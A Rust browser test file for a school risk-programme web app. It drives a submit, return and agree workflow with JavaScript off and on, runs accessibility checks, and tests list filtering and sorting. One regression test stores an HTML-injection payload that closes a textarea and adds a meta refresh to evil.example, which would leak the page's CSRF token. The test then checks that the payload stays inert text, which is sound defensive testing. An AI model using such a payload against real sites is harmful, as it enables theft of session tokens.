//! The anti-risk programme's cycle in a real browser, with JavaScript off and on: the school
//! chooses a risk from its profile, writes the programme from the catalogue and submits it; the
//! curator comments on a measure and returns it; the school mends and resubmits; the curator
//! agrees; the school files a stage report. With JavaScript, axe checks the new pages.

use fantoccini::Locator;
use harness::browser::{Browser, Js};
use harness::{Backend, TestApp};

use super::sign_in;

/// Signs the browser out (its cookies gone) and in as another demo account.
async fn switch_to(browser: &Browser, app: &TestApp, login: &str) {
    browser.client.delete_all_cookies().await.expect("cookies");
    sign_in(browser, app, login).await;
}

async fn open(browser: &Browser, app: &TestApp, path: &str, js: Js, ready: &str) {
    browser.client.goto(&app.url(path)).await.expect("page");
    browser.wait_for(Locator::Css(ready)).await;
    if js == Js::On {
        browser
            .wait_for(Locator::Css("header.work-bar[data-hydrated='true']"))
            .await;
    }
}

/// Waits (up to ten seconds) until the programme's status reads `words`: the form's answer is
/// a new page, which may still be on its way.
/// Waits (up to ten seconds) until the text of the first element matching `css` contains
/// `words`: a form's answer is a new page, which may still be on its way. Returns the text.
async fn text_with(browser: &Browser, css: &str, words: &str) -> String {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let now = match browser.client.find(Locator::Css(css)).await {
            Ok(e) => e.text().await.unwrap_or_default(),
            Err(_) => String::new(),
        };
        if now.contains(words) {
            return now;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{css} reads {now:?}, without {words:?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

async fn status_is(browser: &Browser, words: &str) {
    let now = text_with(browser, ".programme-status strong", words).await;
    assert_eq!(now, words);
}

async fn axe_finds_nothing_serious(browser: &Browser, page: &str) {
    let found = harness::axe::serious_violations(&browser.client).await;
    assert!(found.is_empty(), "{page}: {found:?}");
}

async fn programme_cycle(js: Js) {
    let app = TestApp::spawn(Backend::Sqlite).await.with_demo().await;
    let closed = app.previous_demo_campaign().await;
    let (_, own) = app.demo_school("demo-01").await;
    let today = server::clock::today();
    app.storage
        .add_stage(closed, "Этап 1: промежуточный отчёт", today.plus_days(7))
        .await
        .expect("a stage");
    let profile = format!("/work/campaigns/{closed}/schools/{own}");
    let programme = format!("{profile}/programme");
    let browser = Browser::start(js).await;

    // The school chooses the riskiest suggested factor, with its reasoning.
    sign_in(&browser, &app, "school").await;
    open(&browser, &app, &profile, js, "form.choose-risk").await;
    browser
        .type_into(
            Locator::Id("reasoning"),
            "Видим по журналам и беседам с родителями",
        )
        .await;
    browser.click(Locator::Css("form.choose-risk button")).await;
    browser.wait_for(Locator::Css("ul.chosen li")).await;
    // The programme from the catalogue: a measure and the suggested target.
    open(&browser, &app, &programme, js, "section.risk-plan").await;
    browser
        .click(Locator::Css("details.catalogue summary"))
        .await;
    browser
        .click(Locator::Css("details.catalogue form button"))
        .await;
    browser
        .wait_for(Locator::Css("table.measures tbody tr"))
        .await;
    browser
        .click(Locator::Css("details.set-targets summary"))
        .await;
    browser
        .click(Locator::Css("details.set-targets form button"))
        .await;
    browser
        .wait_for(Locator::Css("table.targets tbody tr"))
        .await;
    browser
        .click(Locator::Css("form.step[action$='/submit'] button"))
        .await;
    status_is(&browser, "отправлена на согласование").await;

    // The curator comments on the measure and returns the programme.
    switch_to(&browser, &app, "curator").await;
    open(&browser, &app, &programme, js, "form.comment-form").await;
    browser
        .click(Locator::Css("#comment-subject option:nth-child(2)"))
        .await;
    browser
        .type_into(
            Locator::Css("form.comment-form textarea"),
            "Назовите ответственного по имени",
        )
        .await;
    browser
        .click(Locator::Css("form.comment-form button"))
        .await;
    text_with(&browser, "tr[data-measure] p.comment", "Назовите").await;
    browser
        .type_into(Locator::Id("return-comment"), "Доработайте мероприятие")
        .await;
    browser.click(Locator::Css("form.return button")).await;
    status_is(&browser, "возвращена на доработку").await;

    // The school reads the comment where it applies, mends the measure and resubmits.
    switch_to(&browser, &app, "school").await;
    open(&browser, &app, &programme, js, "section.risk-plan").await;
    text_with(
        &browser,
        "tr[data-measure] p.comment",
        "Назовите ответственного по имени",
    )
    .await;
    browser
        .click(Locator::Css("details.edit-measure summary"))
        .await;
    browser
        .type_into(
            Locator::Css("details.edit-measure input[name='responsible_name']"),
            "Е. В. Орлова",
        )
        .await;
    browser
        .click(Locator::Css("details.edit-measure form button"))
        .await;
    text_with(&browser, "table.measures tbody tr", "Е. В. Орлова").await;
    browser
        .click(Locator::Css("form.step[action$='/submit'] button"))
        .await;
    status_is(&browser, "отправлена на согласование").await;

    // The curator agrees.
    switch_to(&browser, &app, "curator").await;
    open(
        &browser,
        &app,
        &programme,
        js,
        "form.step[action$='/agree']",
    )
    .await;
    browser
        .click(Locator::Css("form.step[action$='/agree'] button"))
        .await;
    status_is(&browser, "согласована").await;

    // The school files the stage report: the measure in progress, a short analysis.
    switch_to(&browser, &app, "school").await;
    open(&browser, &app, &programme, js, "form.stage-form").await;
    browser
        .click(Locator::Css(
            "form.stage-form select option[value='in_progress']",
        ))
        .await;
    browser
        .type_into(
            Locator::Css("form.stage-form textarea"),
            "Мероприятие начато, первые занятия прошли",
        )
        .await;
    browser.click(Locator::Css("form.stage-form button")).await;
    let filed = text_with(
        &browser,
        "section.stage[data-state='filed'] .stage-report",
        "Мероприятие начато",
    )
    .await;
    assert!(filed.contains("выполняется"), "{filed}");

    if js == Js::On {
        axe_finds_nothing_serious(&browser, "programme").await;
        open(
            &browser,
            &app,
            &format!("{programme}/print"),
            js,
            "article.programme-doc",
        )
        .await;
        axe_finds_nothing_serious(&browser, "print").await;
        switch_to(&browser, &app, "region").await;
        open(
            &browser,
            &app,
            &format!("/work/campaigns/{closed}/monitor"),
            js,
            "section.stages",
        )
        .await;
        axe_finds_nothing_serious(&browser, "monitor with stages").await;
        open(&browser, &app, "/work/effectiveness", js, "h1").await;
        axe_finds_nothing_serious(&browser, "effectiveness").await;
        open(&browser, &app, "/work", js, "section.programmes-overview").await;
        axe_finds_nothing_serious(&browser, "start page").await;
    }
    browser.close().await;
    app.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_programme_goes_through_its_cycle_without_javascript() {
    programme_cycle(Js::Off).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_programme_goes_through_its_cycle_with_javascript() {
    programme_cycle(Js::On).await;
}

/// A goal that closes its text box and asks the browser to leave: the page shows it as text and
/// the browser stays on the site (it left, with the page's CSRF token in the address, before).
async fn stored_markup_cannot_take_the_browser_away(js: Js) {
    use server::storage::{NewEvent, RiskChoice};
    let app = TestApp::spawn(Backend::Sqlite).await.with_demo().await;
    let closed = app.previous_demo_campaign().await;
    let (_, own) = app.demo_school("demo-01").await;
    let admin = app
        .storage
        .user_by_login("admin")
        .await
        .expect("query")
        .expect("admin")
        .id;
    let event = |action: &'static str| NewEvent {
        user_id: admin,
        at: 1_800_000_000,
        action,
        subject: "",
        comment: "",
    };
    let today = server::clock::today();
    assert!(app
        .storage
        .choose_risk(
            RiskChoice {
                campaign_id: closed,
                school_id: own,
                factor: "RF01",
                reasoning: "видим",
                max: 3,
                today,
            },
            event("risk_chosen"),
        )
        .await
        .expect("chosen"));
    let programme = app
        .storage
        .programme(closed, own)
        .await
        .expect("query")
        .expect("programme")
        .id;
    let payload = r#"</textarea><h1 id=inj>x</h1><meta http-equiv="refresh" content="0;url=https://evil.example/leak?d="#;
    assert!(app
        .storage
        .set_risk_plan(programme, "RF01", payload, payload, event("plan"))
        .await
        .expect("plan"));
    let browser = Browser::start(js).await;
    sign_in(&browser, &app, "admin").await;
    let page = format!("/work/campaigns/{closed}/schools/{own}/programme");
    open(&browser, &app, &page, js, "textarea[name='goal']").await;
    // A refresh of 0 s would have left by now.
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    let url = browser.client.current_url().await.expect("url");
    assert_eq!(
        url.host_str(),
        Some("127.0.0.1"),
        "the browser left for {url}"
    );
    assert!(
        browser.client.find(Locator::Id("inj")).await.is_err(),
        "the stored text became an element"
    );
    let goal = browser
        .client
        .find(Locator::Css("textarea[name='goal']"))
        .await
        .expect("the goal's box")
        .prop("value")
        .await
        .expect("value")
        .unwrap_or_default();
    assert_eq!(goal, payload, "the box holds the text as it was stored");
    browser.close().await;
    app.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stored_markup_stays_text_without_javascript() {
    stored_markup_cannot_take_the_browser_away(Js::Off).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stored_markup_stays_text_with_javascript() {
    stored_markup_cannot_take_the_browser_away(Js::On).await;
}

/// The states of the programme list's rows, in order.
async fn row_states(browser: &Browser) -> Vec<String> {
    let mut states = Vec::new();
    for row in browser
        .client
        .find_all(Locator::Css("table.programmes tbody tr"))
        .await
        .expect("rows")
    {
        states.push(
            row.attr("data-state")
                .await
                .ok()
                .flatten()
                .unwrap_or_default(),
        );
    }
    states
}

/// Waits (up to ten seconds) until the list's rows are in `wanted` states.
async fn rows_become(browser: &Browser, wanted: &[&str]) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let now = row_states(browser).await;
        if now == wanted {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "rows {now:?}, not {wanted:?}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

/// The region filters a campaign's programmes by state and sorts them by state (with
/// JavaScript in place, the page not loaded again); axe at three widths.
async fn programme_list(js: Js) {
    let app = TestApp::spawn(Backend::Sqlite)
        .await
        .with_demo_cycle()
        .await;
    let closed = app.previous_demo_campaign().await;
    let browser = Browser::start(js).await;
    sign_in(&browser, &app, "region").await;
    let path = format!("/work/campaigns/{closed}/programmes");
    open(&browser, &app, &path, js, "table.programmes").await;
    if js == Js::On {
        browser
            .client
            .execute("window.kept = 1", vec![])
            .await
            .expect("mark");
        super::results::axe_at_every_width(&browser, "programme list").await;
    }
    assert_eq!(row_states(&browser).await.len(), 6);
    browser
        .wait_for(Locator::Id("state"))
        .await
        .select_by_value("agreed")
        .await
        .expect("choose a state");
    browser.click(Locator::Css("form.filter button")).await;
    rows_become(&browser, &["agreed", "agreed"]).await;
    // Every state again, sorted by the state with a click on its header.
    browser
        .wait_for(Locator::Id("state"))
        .await
        .select_by_value("")
        .await
        .expect("every state");
    browser.click(Locator::Css("form.filter button")).await;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while row_states(&browser).await.len() != 6 {
        assert!(std::time::Instant::now() < deadline, "every state again");
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    browser
        .click(Locator::Css("table.programmes thead th:nth-child(3) a"))
        .await;
    rows_become(
        &browser,
        &["none", "draft", "returned", "submitted", "agreed", "agreed"],
    )
    .await;
    if js == Js::On {
        let kept = browser
            .client
            .execute("return window.kept === 1", vec![])
            .await
            .expect("mark");
        assert_eq!(
            kept,
            serde_json::json!(true),
            "filtered and sorted in place"
        );
    }
    browser.close().await;
    app.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_programme_list_filters_and_sorts_without_javascript() {
    programme_list(Js::Off).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_programme_list_filters_and_sorts_with_javascript() {
    programme_list(Js::On).await;
}
